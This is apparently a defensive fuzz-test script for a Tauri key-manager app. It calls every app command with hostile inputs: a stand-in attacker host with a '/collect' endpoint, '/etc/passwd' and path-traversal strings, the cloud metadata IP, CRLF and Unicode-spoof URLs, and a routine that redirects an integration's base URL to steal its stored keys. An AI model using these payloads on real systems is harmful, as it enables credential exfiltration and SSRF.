// The body of an async function; `given[0]` names the stage. Calls everything with everything, in an order that follows
// from the seed. Each call is given a moment: those that ask a person wait for an answer, which is no.
const { targets, client, integration, mine, evil, plain, ca, seed } = given[0];
const invoke = window.__TAURI_INTERNALS__.invoke;
const host = evil.slice("https://".length);

let state = seed;
const random = () => (state = (state * 1103515245 + 12345) % 2147483648) / 2147483648;
const pick = (all) => all[Math.floor(random() * all.length)];
const fresh = (letter) => letter + Math.floor(random() * 1e9);
const moment = (work, most = 250) =>
  Promise.race([work.then(() => "answered", () => "refused"), new Promise((done) => setTimeout(done, most, "waiting"))]);

const nobody = "01890000-0000-7000-8000-000000000000";
const ids = [client, integration, mine, nobody, "x", null];
const most = 4294967295;
const texts = [
  evil, plain, `${evil}/collect`, "file:///etc/passwd", "/etc/passwd", "../../keyrack.db", "*", "token", "api_key", "",
  "a\u0000b", "${token}", "{token}", "{{token}}", "%s", `https://localhost@${host}`, `${targets}@${host}`,
];
const auths = [
  { scheme: "bearer" }, { scheme: "query", name: "key" }, { scheme: "header", header: "X-Leak", prefix: "" },
  { scheme: "basic" }, { scheme: "provider" }, { scheme: "header", header: "Host", prefix: "" },
];
const probes = [
  "GET /status", `GET //${host}/`, `GET ${evil}/`, `GET /\\${host}`, "HEAD /", "POST /", null, `GET @${host}/`,
];
const input = () => ({
  name: fresh("n"),
  provider: pick(["custom", "woocommerce", "shopify", "slack_webhook", "../x"]),
  environment: pick(["production", "sandbox"]),
  variables: pick([{}, { store_domain: host }, { store: `${host}/#` }]),
  base_url: pick([evil, plain, targets, null, `${evil}/x`, `https://${host}.`, `${targets}.evil.example`]),
  auth: pick(auths),
  probe: pick(probes),
  // A person chose it for the integrations that stand there; for a new one it is text that the page made up.
  ca_pem: pick([ca, null, nobody]),
  allow_loopback_http: pick([true, false]),
  notes: "", tags: [], owner: "", rotate_every_days: null,
});
const person = (name) => ({ name, notes: pick(texts), tags: [], owner: "" });
const meanings = [{ role: "ignore" }, { role: "client" }, { role: "base_url" }, { role: "key", part: "*" }];
const columns = () => Array.from({ length: 3 }, () => pick(meanings));
const query = () => ({
  client: null, integration: null, verdicts: [], sends_only: false, since: null, until: null, search: pick(texts),
});
const board = () => ({
  search: pick(texts), health: [], providers: [], tags: [], environments: [], due_soon: false, archived: false, sort: "name",
});
const look = () => ({
  client: pick([client, nobody, null]), git: pick([true, false]), shapes: pick([true, false]), rack: pick([true, false]),
});
// What the page saw, in an address; addresses that look like another's.
const sites = [
  `${plain}/?seen=${encodeURIComponent(integration)}`, `${evil}/${integration}`, `http://user:pass@${host}/`,
  `http://169.254.169.254/latest/meta-data`, `${plain}\r\nX-Leak: 1`, `https://shop.example\u202e${host}`, `${plain}#${client}`,
];
const channel = () => `__CHANNEL__:${window.__TAURI_INTERNALS__.transformCallback(() => {})}`;
const victim = () => pick([integration, mine]);

const calls = {
  app: () => ({}),
  board: () => ({ query: board() }),
  board_cards: () => ({ query: board(), clients: [pick(ids)] }),
  board_painted: () => ({}),
  bulk_choose: () => ({ path: pick(texts) }),
  bulk_map: () => ({ handle: pick(ids), columns: columns(), offset: 0, limit: most }),
  bulk_take_in: () => ({ handle: pick(ids), progress: channel() }),
  ca_choose: () => ({ path: pick(texts) }),
  client: () => ({ id: pick(ids) }),
  client_add: () => ({ input: person(fresh("c")) }),
  client_archive: () => ({ id: mine, archived: true }),
  client_duplicate: () => ({ id: client, name: fresh("d") }),
  client_edit: () => ({ id: client, revision: pick([0, 1, 2, 3]), input: person("Nordlys") }),
  client_remove: () => ({ id: nobody }),
  client_remove_preview: () => ({ id: client }),
  clients: () => ({ archived: pick([true, false]) }),
  doctor: () => ({}),
  finding_accept: () => ({ finding: pick(ids), reason: pick(texts) }),
  finding_unaccept: () => ({ finding: pick(ids) }),
  integration: () => ({ id: pick(ids) }),
  integration_add: () => ({ client, input: input() }),
  integration_archive: () => ({ id: victim(), archived: pick([true, false]) }),
  integration_duplicate: () => ({ id: integration, name: fresh("k"), withKey: pick([true, false]) }),
  integration_edit: () => ({ id: victim(), revision: pick([0, 1, 2, 3, 4, 5]), input: input() }),
  integration_remove: () => ({ id: mine }),
  integration_remove_preview: () => ({ id: integration }),
  integrations: () => ({ client: pick([client, null]) }),
  key_add_clipboard: () => ({ integration: victim(), part: pick(["token", ...texts]), confirmed: true, yes: true }),
  key_add_file: () => ({ integration: victim(), part: "token", handle: pick(ids), name: pick(texts) }),
  key_add_prompt: () => ({ integration: victim(), part: pick(["token", "api_key"]) }),
  key_copy: () => ({ integration, part: "token" }),
  key_file_choose: () => ({ integration: victim(), part: "token", path: pick(texts) }),
  key_file_close: () => ({ handle: pick(ids) }),
  key_forget: () => ({ integration }),
  keyring_check: () => ({}),
  keyring_unlock: () => ({}),
  log: () => ({ query: query(), offset: pick([0, most]), limit: most }),
  log_entry: () => ({ id: pick(ids) }),
  providers: () => ({}),
  removal_undo: () => ({ undo: pick(ids) }),
  sample_leave: () => ({}),
  sample_open: () => ({}),
  sample_remove: () => ({}),
  scan: () => ({ id: pick(ids) }),
  scan_cancel: () => ({ id: pick(ids) }),
  scan_findings: () => ({ id: pick(ids), offset: pick([0, most]), limit: most }),
  scan_folder: () => ({ handle: pick(ids), path: pick(texts), input: look() }),
  scan_folder_choose: () => ({ path: pick(texts) }),
  scan_remove: () => ({ id: pick(ids) }),
  scan_site: () => ({ url: pick([...texts, ...sites]), input: look(), confirmed: true, yes: true }),
  scan_unread: () => ({ id: pick(ids), offset: pick([0, most]), limit: most }),
  scans: () => ({ client: pick(ids), offset: pick([0, most]), limit: most }),
  settings_save: () => ({
    settings: { theme: "light", clipboard_seconds: most, keep_days: 1, unsafe_loopback_http: true },
  }),
  test: () => ({ integration: victim() }),
  test_cancel: () => ({ integration: null }),
  test_many: () => ({ integrations: [integration, mine], progress: channel() }),
};

// The likeliest attack: what is entered stays, only where it goes is changed.
async function turnAside() {
  const view = await invoke("integration", { id: integration }).catch(() => null);
  if (view === null) return;
  const turned = { ...view.input, base_url: pick([evil, plain]), allow_loopback_http: true, ca_pem: ca };
  await invoke("integration_edit", { id: integration, revision: view.revision, input: turned }).catch(() => null);
}

const names = Object.keys(calls);
const order = names.toSorted(() => random() - 0.5).concat(Array.from({ length: 60 }, () => pick(names)));
const called = {};
for (const name of order) {
  const sample = name.startsWith("sample_");
  (called[name] ??= []).push(await moment(invoke(name, calls[name]()), sample ? 15000 : 250));
  // In the sample there is nothing to steal: back to the victim.
  if (sample) await moment(invoke("sample_leave"), 15000);
  if (random() < 0.1) await moment(turnAside());
}
return called;
